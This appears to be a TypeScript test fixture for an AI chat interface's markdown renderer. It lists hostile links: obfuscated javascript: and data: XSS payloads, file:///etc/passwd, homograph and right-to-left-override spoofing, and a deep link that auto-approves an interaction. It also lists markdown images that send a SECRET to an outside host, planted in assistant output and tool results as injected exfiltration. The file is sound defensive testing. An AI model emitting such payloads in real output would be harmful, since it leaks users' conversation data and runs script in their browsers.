import { ELSEWHERE, plantCases, SCRIPT } from './hostile-case.ts';

/** Links that would run code, open a program, or lead to another address than shown. */
const leading = {
  javascript: `[look](javascript:${encodeURIComponent(SCRIPT)})`,
  'javascript in capitals': '[look](JaVaScRiPt:alert(1))',
  'javascript with a tab': '[look](<java\tscript:alert(1)>)',
  'javascript with a line feed': '[look](<java&#10;script:alert(1)>)',
  'javascript with an entity': '[look](javascript&colon;alert(1))',
  'javascript with a control before': '[look](<\u0001javascript:alert(1)>)',
  'javascript by itself': '<javascript:alert(1)>',
  'javascript by reference': '[look][1]\n\n[1]: javascript:alert(1)',
  vbscript: '[look](vbscript:msgbox(1))',
  'data page': '[look](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data picture with a script': '[look](data:image/svg+xml,<svg/onload=alert(1)>)',
  file: '[look](file:///etc/passwd)',
  'file on a share': String.raw`[look](\\evil\share\x) [look](file://evil/share/x)`,
  blob: `[look](blob:https://${ELSEWHERE}/1)`,
  'no scheme': `[look](//${ELSEWHERE}/x)`,
  'our own page': '[look](app://corral/../../etc/passwd) [look](/api/hello)',
  'deep link': '[look](corral://interaction/00000000-0000-4000-8000-000000000001?answer=approve)',
  'program of the system':
    '[look](vscode://file/etc/passwd) [look](ms-msdt:/id) [look](intent://x#Intent;end)',
  'label with another address': `[https://github.com](https://${ELSEWHERE}/login)`,
  'user that looks like a host': `[docs](https://github.com@${ELSEWHERE}/)`,
  'letters of another script': '[apple](https://аpple.com/)',
  'label reversed by an override': '[https://good.example/\u202egpj.live](https://evil.example/)',
  'title that ends the attribute': `[x](https://good.example/ "\\" onmouseover=${SCRIPT} x=\\"")`,
  'very long': `[x](https://good.example/${'a'.repeat(5000)})`,
};

/** Images whose requests would send words of the conversation away when they are rendered. */
const exfiltrating = {
  picture: `![](https://${ELSEWHERE}/?q=SECRET)`,
  'picture by reference': `![x][p]\n\n[p]: https://${ELSEWHERE}/?q=SECRET`,
  'picture without a scheme': `![x](//${ELSEWHERE}/?q=SECRET)`,
  'picture in a link': `[![x](https://${ELSEWHERE}/a.png)](https://${ELSEWHERE}/b)`,
  'picture in a table': `| a |\n| --- |\n| ![x](https://${ELSEWHERE}/t.png) |`,
  'picture in a heading': `# ![x](https://${ELSEWHERE}/h.png)`,
  'picture in a footnote': `x[^1]\n\n[^1]: ![x](https://${ELSEWHERE}/n.png)`,
  'picture of data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  'picture of a file': '![x](file:///etc/passwd)',
  'picture of the page itself': '![x](/api/hello?token=SECRET)',
  'picture of a script': '![x](javascript:alert(1))',
  'picture with a name that runs': `![" onerror="${SCRIPT}](https://${ELSEWHERE}/y.png)`,
  'a thousand pictures': Array.from(
    { length: 1000 },
    (_, at) => `![](https://${ELSEWHERE}/${at}.png)`,
  ).join(' '),
};

export const links = [
  ...plantCases('link', ['say'], leading),
  ...plantCases('exfiltration', ['say', 'toolOutput'], exfiltrating),
];
